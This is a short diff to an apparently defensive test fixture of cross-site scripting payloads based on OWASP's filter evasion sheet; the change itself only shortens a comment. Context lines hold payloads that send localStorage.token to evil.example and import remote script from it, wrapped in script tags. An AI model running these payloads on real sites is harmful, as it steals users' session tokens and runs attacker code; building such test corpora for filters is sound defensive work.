@@ -1,7 +1,4 @@
-/**
- * More than 500 texts that try to act as markup: the variants of OWASP's filter evasion sheet, and texts that break headers
- * and templates.
- */
+/** More than 500 texts that imitate markup: OWASP's filter evasion sheet, and texts that break headers and templates. */
 const SCRIPTS = ["alert(1)", "fetch('//evil.example/'+localStorage.token)", "import('//evil.example/x.js')"]
 const TAGS = (script: string) => [
   `<script>${script}</script>`,
